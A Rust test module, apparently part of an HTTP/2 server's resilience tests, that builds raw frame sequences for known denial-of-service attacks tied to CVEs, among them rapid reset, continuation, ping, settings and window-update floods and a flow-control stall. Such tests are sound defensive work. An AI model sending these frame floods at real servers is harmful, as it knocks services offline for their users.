//! What abusive clients send, again and again, over one connection.

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, field, frame, request, setting,
};

/// One kind of abuse.
#[derive(Clone, Copy)]
pub(super) struct Attack {
    pub(super) name: &'static str,
    /// The settings that its clients begin with.
    pub(super) settings: fn() -> Vec<u8>,
    /// What is written once, and then over and over; the number counts from zero.
    pub(super) bytes: fn(u32) -> Vec<u8>,
    /// Frames in each of these.
    pub(super) frames: u32,
    /// Whether the client reads what it is sent. One that does not makes the server keep its answers.
    pub(super) reads: bool,
    /// Whether it is done after the first bytes, and only stays.
    pub(super) stays: bool,
}

const FLOOD: Attack =
    Attack { name: "", settings: Vec::new, bytes: |_| Vec::new(), frames: BATCH, reads: true, stays: false };
/// Frames that are written at once.
const BATCH: u32 = 100;

pub(super) const ATTACKS: &[Attack] = &[
    // CVE-2023-44487
    Attack { name: "rapid reset", bytes: rapid_reset, frames: 2 * BATCH, ..FLOOD },
    // CVE-2024-27316 and others of that year
    Attack { name: "continuation flood", bytes: continuations, frames: 4, ..FLOOD },
    // CVE-2019-9512
    Attack { name: "ping flood", bytes: |_| repeated(PING, 0, 0, &[0; 8]), ..FLOOD },
    Attack { name: "ping flood, answers unread", bytes: |_| repeated(PING, 0, 0, &[0; 8]), reads: false, ..FLOOD },
    // CVE-2019-9515
    Attack { name: "settings flood", bytes: |_| repeated(SETTINGS, 0, 0, &[]), ..FLOOD },
    Attack { name: "settings flood, answers unread", bytes: |_| repeated(SETTINGS, 0, 0, &[]), reads: false, ..FLOOD },
    // CVE-2019-9513
    Attack { name: "priority flood", bytes: |_| repeated(PRIORITY, 0, 1, &[0, 0, 0, 0, 15]), ..FLOOD },
    // CVE-2019-9518
    Attack { name: "empty data flood", bytes: empty_data, ..FLOOD },
    Attack { name: "window update flood", bytes: window_updates, ..FLOOD },
    // CVE-2019-9517 and 9511: 100 answers of 1 MiB that nobody takes
    Attack { name: "window stall", settings: no_window, bytes: large_answers, frames: BATCH, stays: true, ..FLOOD },
];

fn repeated(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::new();
    (0..BATCH).for_each(|_| frame(&mut bytes, kind, flags, stream, payload));
    bytes
}

fn rapid_reset(round: u32) -> Vec<u8> {
    let (mut bytes, request) = (Vec::new(), request("GET", "/small"));
    for number in 0..BATCH {
        let stream = (round * BATCH + number) * 2 + 1;
        frame(&mut bytes, HEADERS, END_STREAM | END_HEADERS, stream, &request);
        frame(&mut bytes, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
    }
    bytes
}

/// Each 16 KiB of fields more for a header that never ends.
fn continuations(round: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    if round == 0 {
        frame(&mut bytes, HEADERS, END_STREAM, 1, &request("GET", "/small"));
    }
    let fields = field("x-field", &"v".repeat(100)).repeat(140);
    (0..4).for_each(|_| frame(&mut bytes, CONTINUATION, 0, 1, &fields));
    bytes
}

fn empty_data(round: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    if round == 0 {
        frame(&mut bytes, HEADERS, END_HEADERS, 1, &request("POST", "/small"));
    }
    bytes.extend(repeated(DATA, 0, 1, &[]));
    bytes
}

fn window_updates(round: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    if round == 0 {
        frame(&mut bytes, HEADERS, END_HEADERS, 1, &request("POST", "/small"));
    }
    bytes.extend(repeated(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes()));
    bytes
}

fn no_window() -> Vec<u8> {
    setting(INITIAL_WINDOW_SIZE, 0)
}

fn large_answers(_: u32) -> Vec<u8> {
    let (mut bytes, request) = (Vec::new(), request("GET", "/large"));
    (0..BATCH).for_each(|number| frame(&mut bytes, HEADERS, END_STREAM | END_HEADERS, number * 2 + 1, &request));
    bytes
}
